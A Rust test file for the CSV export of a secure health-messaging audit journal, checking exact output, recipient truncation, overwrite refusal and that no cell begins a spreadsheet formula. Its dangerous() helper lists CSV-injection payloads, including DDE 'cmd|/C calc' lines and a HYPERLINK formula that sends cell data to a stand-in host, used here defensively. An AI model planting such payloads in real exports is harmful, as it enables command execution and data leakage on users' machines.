//! The table for a spreadsheet.

use pli_terms::{Address, MessageId, NationalId, Wording};
use pli_trace::{Entry, Filter, Format, JournalError, Outcome};

use crate::common::{House, local, sending};

fn hex(octets: &[u8]) -> String {
    octets.iter().map(|octet| format!("{octet:02x}")).collect()
}

#[test]
fn its_octets_are_exactly_these() {
    let house = House::with(&[sending(), local()]);
    let exported = house.export(&Filter::default(), Format::Csv, "a.csv").unwrap();
    assert_eq!(exported.count, 2);
    let records = house.records();
    let chain = |place: usize| {
        let record: &pli_trace::Record = &records[place];
        format!(
            "id:{};sha256:{};sha256:{}",
            record.unique_id,
            hex(&record.hash),
            hex(&record.previous)
        )
    };
    let expected = format!(
        "\u{feff}N°;Date et heure locales;Décalage;Date et heure ISO 8601;Horloge;Écart d'horloge (ms);Recul de l'horloge (ms);\
         Boîte aux lettres;Type de boîte;Auteur;Identifiant national;Authentification;Action;Code de l'action;Résultat;\
         Code de réponse;Réponse;Protocole;Demande;Dossier;Dossier de destination;UID;Octets envoyés;Octets reçus;Durée (ms);\
         Échange;Identifiant interne du message;Message-ID;Expéditeur;Destinataires;Taille (octets);Serveur;\
         Adresse du serveur;Poste;Adresse du poste;Système;Logiciel;Identifiant de la trace;Empreinte;\
         Empreinte précédente\r\n\
         1;22/11/2026 00:03:05,007;UTC+01:00;2026-11-22T00:03:05.007+01:00;Synchronisée;-35;;\
         helene.darcy@medecin.mssante.fr;Personnelle;\"Dr Hélène d'Arcy; née Müller\";n° 899700218896;Pro Santé Connect;\
         Envoi;send;Réussi;250 2.1.5;\"Ok: \"\"queued\"\" as 4B; done\";SMTP;MAIL RCPT DATA;INBOX;Sent;\"UID 3:5,9\";\
         12345;67;42;x00abcdef01234567;m-17;abc.1@medecin.mssante.fr;helene.darcy@medecin.mssante.fr;\
         \"laboratoire@bio.mssante.fr,' +secretariat@hopital.mssante.fr\";45678;smtp.mssante.fr;192.0.2.7:465;cabinet-2;\
         10.0.0.3;Debian GNU/Linux 12;Pli 0.1.0;{}\r\n\
         2;22/11/2026 08:00:00,000;UTC+00:00;2026-11-22T08:00:00.000+00:00;Inconnue;;;;;;;;Ouverture du journal;start;Échec;;\
         closed without warning;Poste;;;;;0;0;0;;;;;;;;;;;;;{}\r\n",
        chain(0),
        chain(1)
    );
    // A comma needs no quotes where semicolons separate.
    let expected = expected.replace("\"UID 3:5,9\"", "UID 3:5,9").replace(
        "\"laboratoire@bio.mssante.fr,' +secretariat@hopital.mssante.fr\"",
        "laboratoire@bio.mssante.fr,' +secretariat@hopital.mssante.fr",
    );
    let octets = std::fs::read(house.path("a.csv")).unwrap();
    assert_eq!(String::from_utf8(octets.clone()).unwrap(), expected);
    assert_eq!(octets.len() as u64, exported.size);
}

/// Every text of a trace made of one text, as far as each may hold it.
fn all_of(text: &str) -> Entry {
    let words = || Wording::fact(text);
    let mut entry = sending();
    let local_part: String = text.chars().filter(|c| !c.is_control()).collect();
    let address = Address::parse(&format!("{local_part}@x.mssante.fr")).ok();
    if let Some(author) = &mut entry.author {
        author.name = words();
        author.national_id = NationalId::parse(text).ok();
    }
    if let (Some(bal), Some(address)) = (&mut entry.bal, &address) {
        bal.address = address.clone();
    }
    entry.request.verb = words();
    entry.request.mailbox = words();
    entry.request.target = words();
    entry.request.uids = words();
    entry.outcome = Outcome::Refused {
        code: words(),
        enhanced: words(),
        text: words(),
    };
    entry.mail = words();
    entry.message_id = MessageId::parse(&format!("<{text}@x>"));
    entry.recipients = address.clone().into_iter().collect();
    entry.sender = address;
    entry.workstation.os = words();
    entry.workstation.os_version = words();
    entry.workstation.pli_version = words();
    entry.workstation.host = words();
    entry.workstation.address = words();
    if let Some(server) = &mut entry.server {
        server.name = words();
        server.address = words();
    }
    entry
}

/// What makes a formula of a cell, behind all that a spreadsheet may skip.
pub(crate) fn dangerous() -> Vec<String> {
    let mut texts = Vec::new();
    for first in [
        "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "|", "%", "\u{2212}", "﹦", "﹢", "﹣", "﹫",
    ] {
        for before in [
            "", " ", "\"", "'", "\u{feff}", "\u{a0}", "\u{200b}", "\";", ";", ",", " \"' ",
        ] {
            texts.push(format!("{before}{first}1+1"));
        }
    }
    texts.push("=cmd|'/C calc'!A0".to_owned());
    texts.push("=HYPERLINK(\"http://x/?\"&A1;\"x\")".to_owned());
    texts.push("@SUM(1+1)*cmd|' /C calc'!A0".to_owned());
    texts
}

#[test]
fn no_cell_of_any_column_begins_a_formula() {
    let entries: Vec<Entry> = dangerous().iter().map(|text| all_of(text)).collect();
    let house = House::with(&entries);
    house.export(&Filter::default(), Format::Csv, "a.csv").unwrap();
    let octets = std::fs::read(house.path("a.csv")).unwrap();
    let text = std::str::from_utf8(&octets).unwrap().strip_prefix('\u{feff}').unwrap();
    // A mark that is not at the start of the file would be a text's.
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(text.as_bytes());
    let columns = reader.headers().unwrap().len();
    let mut rows = 0;
    for row in reader.records() {
        let row = row.unwrap();
        rows += 1;
        assert_eq!(row.len(), columns);
        for cell in &row {
            let number = cell.parse::<i64>().is_ok();
            let first = cell
                .trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || "\"\u{feff}\u{200b}".contains(c));
            assert!(
                number || !first.starts_with(|c| "=+-@|%\u{2212}＝＋－＠﹦﹢﹣﹫".contains(c)),
                "{cell:?}"
            );
        }
    }
    assert_eq!(rows, entries.len());
    // With a comma or a tab between cells, nothing begins one either.
    for line in text.lines() {
        for cell in line.split([',', '\t', ';']) {
            let cell = cell.trim_start_matches(['"', ' ', '\u{feff}', '\u{200b}', '\u{a0}']);
            let number = cell.parse::<i64>().is_ok();
            assert!(
                number || !cell.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']),
                "{cell:?}"
            );
        }
    }
}

#[test]
fn more_recipients_than_a_cell_holds_are_counted() {
    let mut entry = sending();
    entry.recipients = (0..1000)
        .map(|place| Address::parse(&format!("une.personne.au.nom.tres.long.{place}@hopital.mssante.fr")).unwrap())
        .collect();
    let house = House::with(&[entry]);
    house.export(&Filter::default(), Format::Csv, "a.csv").unwrap();
    let octets = std::fs::read(house.path("a.csv")).unwrap();
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(octets.as_slice());
    let row = reader.records().next().unwrap().unwrap();
    let cell = row.iter().find(|cell| cell.contains("tres.long.0@")).unwrap();
    assert!(cell.chars().count() < 32_767);
    let shown = cell.matches("@hopital").count();
    let left = 1000 - shown;
    assert!(cell.ends_with(&format!(
        ", et {left}\u{a0}autres destinataires : voir l'export JSON Lines"
    )));
}

#[test]
fn a_file_that_is_there_is_kept() {
    let house = House::with(&[sending()]);
    std::fs::write(house.path("a.csv"), "mine").unwrap();
    let refused = house.export(&Filter::default(), Format::Csv, "a.csv");
    assert!(matches!(refused, Err(JournalError::Exists { .. })), "{refused:?}");
    assert_eq!(std::fs::read(house.path("a.csv")).unwrap(), b"mine");
    std::fs::write(house.path("b.csv.manifeste.json"), "mine").unwrap();
    let refused = house.export(&Filter::default(), Format::Csv, "b.csv");
    assert!(matches!(refused, Err(JournalError::Exists { .. })), "{refused:?}");
    assert_eq!(house.names(), ["a.csv", "b.csv.manifeste.json"]);

    let mut about = crate::common::about();
    about.replace = true;
    pli_trace::export(
        &house.journal,
        &Filter::default(),
        Format::Csv,
        &house.path("a.csv"),
        about,
    )
    .unwrap();
    assert_eq!(house.names(), ["a.csv", "a.csv.manifeste.json", "b.csv.manifeste.json"]);
    assert!(std::fs::read(house.path("a.csv")).unwrap().len() > 1000);
}
